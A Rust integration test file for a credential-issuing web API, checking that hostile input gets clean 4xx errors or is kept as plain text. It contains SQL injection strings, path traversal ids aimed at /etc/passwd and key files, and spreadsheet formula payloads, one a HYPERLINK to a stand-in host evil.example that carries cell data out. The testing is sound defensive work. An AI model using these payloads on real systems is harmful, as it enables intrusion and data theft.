//! The attack surface, endpoint by endpoint: hostile bodies and paths get a clear 4xx (problem details),
//! never a 5xx, and store nothing; text that looks like SQL or a spreadsheet formula is kept as text.
//! (Tokens: 401 for every secured operation in `api.rs`, 403 for every one in `access.rs`.)

use serde_json::{Value, json};

use crate::support::{Backend, TestApp, assert_problem};

async fn hostile_input(backend: Backend) {
    let Some(app) = TestApp::spawn_with(backend, |s| s.max_body_bytes = Some(64 * 1024)).await else { return };
    let (assessor, achievement_id) = app.issuer_with_achievement(false).await;
    let award = |body: reqwest::Body, content_type: &'static str| {
        app.client
            .post(app.url("/api/v1/credentials"))
            .bearer_auth(&assessor)
            .header("content-type", content_type)
            .body(body)
            .send()
    };
    let before = app.stored_credentials().await;

    // Oversized bodies: 413 on every JSON endpoint, public or not.
    let big = format!("{{\"x\": \"{}\"}}", "a".repeat(100 * 1024));
    for (path, auth) in [
        ("/api/v1/credentials", true),
        ("/api/v1/achievements", true),
        ("/credentials/issue", true),
        ("/credentials/verify", false),
        ("/presentations/verify", false),
    ] {
        let mut request = app.client.post(app.url(path)).header("content-type", "application/json").body(big.clone());
        if auth {
            request = request.bearer_auth(&assessor);
        }
        assert_problem(request.send().await.unwrap(), 413).await;
    }
    // Deeply nested JSON, invalid UTF-8, a NUL byte, broken JSON: 400 or 422, never 5xx.
    let nested = format!("{}{}", "[".repeat(20_000), "]".repeat(20_000));
    let cases: Vec<(Vec<u8>, u16)> = vec![
        (nested.clone().into_bytes(), 400),
        (b"{\"achievement_id\": \"\xff\xfe\"}".to_vec(), 400),
        (b"{\"achievement_id\": ".to_vec(), 400),
        (serde_json::to_vec(&json!({"achievement_id": achievement_id, "recipient": {"name": "Ivan\u{0}Petrov", "email": "nul@example.bg"}})).unwrap(), 422),
        (serde_json::to_vec(&json!({"achievement_id": achievement_id, "recipient": {"name": "Ж".repeat(20_000), "email": "long@example.bg"}})).unwrap(), 422),
        (serde_json::to_vec(&json!({"achievement_id": achievement_id, "recipient": {"name": "A", "email": "not an address"}})).unwrap(), 422),
        (serde_json::to_vec(&json!({"achievement_id": "' OR 1=1 --", "recipient": {"name": "A", "email": "a@example.eu"}})).unwrap(), 422),
    ];
    for (body, status) in cases {
        let response = award(body.clone().into(), "application/json").await.unwrap();
        assert_eq!(response.status().as_u16(), status, "{}", String::from_utf8_lossy(&body[..body.len().min(80)]));
        assert_problem(response, status).await;
    }
    assert_problem(
        app.client
            .post(app.url("/credentials/verify"))
            .header("content-type", "application/json")
            .body(nested)
            .send()
            .await
            .unwrap(),
        400,
    )
    .await;
    assert_problem(award("{}".into(), "text/plain").await.unwrap(), 415).await;

    // Path traversal and junk in ids: the same 404 as any unknown id.
    for path in [
        "/api/v1/credentials/..%2F..%2Fetc%2Fpasswd",
        "/api/v1/credentials/%00",
        "/api/v1/achievements/1%27%20OR%20%271%27%3D%271",
        "/issuers/..%2F..%2Fkeys/did.json",
        "/status/..%2Fcredential",
        "/credentials/..%2F..%2FCargo.toml.json",
    ] {
        let response = app.client.get(app.url(path)).bearer_auth(&assessor).send().await.unwrap();
        assert!([404, 422].contains(&response.status().as_u16()), "{path}: {}", response.status());
        assert_eq!(response.headers()["content-type"], "application/problem+json", "{path}");
    }
    assert_eq!(app.stored_credentials().await, before, "no bad request stored anything");

    // SQL metacharacters are data: stored and shown as written, and the tables are intact.
    let sql = "Robert'); DROP TABLE credential;--";
    let issued: Value = award(
        serde_json::to_vec(
            &json!({"achievement_id": achievement_id, "recipient": {"name": sql, "email": "bobby@example.eu"}}),
        )
        .unwrap()
        .into(),
        "application/json",
    )
    .await
    .unwrap()
    .json()
    .await
    .unwrap();
    assert_eq!(issued["credential"]["credentialSubject"]["name"], sql);
    let found: Value = app.get_json_as(&assessor, "/api/v1/credentials?email=x%27%20OR%20%271%27%3D%271").await;
    assert_eq!(found["items"], json!([]), "a quote in a filter matches nothing");
    assert_eq!(app.stored_credentials().await, before + 1);

    // A spreadsheet formula in a name reaches the CSV export only as text.
    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
    for (i, name) in [formula, "+SUM(1+1)", "-2+3", "@cmd"].iter().enumerate() {
        let body = json!({"achievement_id": achievement_id, "recipient": {"name": name, "email": format!("formula{i}@example.eu")}});
        assert_eq!(award(serde_json::to_vec(&body).unwrap().into(), "application/json").await.unwrap().status(), 201);
    }
    let response = app.client.get(app.url("/api/v1/credentials.csv")).bearer_auth(&assessor).send().await.unwrap();
    assert_eq!(response.status(), 200);
    assert!(response.headers()["content-type"].to_str().unwrap().starts_with("text/csv"));
    let csv_text = response.text().await.unwrap();
    let mut reader = csv::Reader::from_reader(csv_text.as_bytes());
    let names: Vec<String> = reader.records().map(|r| r.unwrap()[2].to_owned()).collect();
    assert!(
        names.contains(&format!("'{formula}"))
            && names.contains(&"'+SUM(1+1)".to_owned())
            && names.contains(&"'@cmd".to_owned()),
        "{names:?}"
    );
    assert!(names.iter().all(|n| !n.starts_with(['=', '+', '-', '@'])), "{names:?}");
    assert!(names.contains(&sql.to_owned()));
}

#[tokio::test]
async fn hostile_input_on_sqlite() {
    hostile_input(Backend::Sqlite).await;
}

#[tokio::test]
async fn hostile_input_on_postgres() {
    hostile_input(Backend::Postgres).await;
}
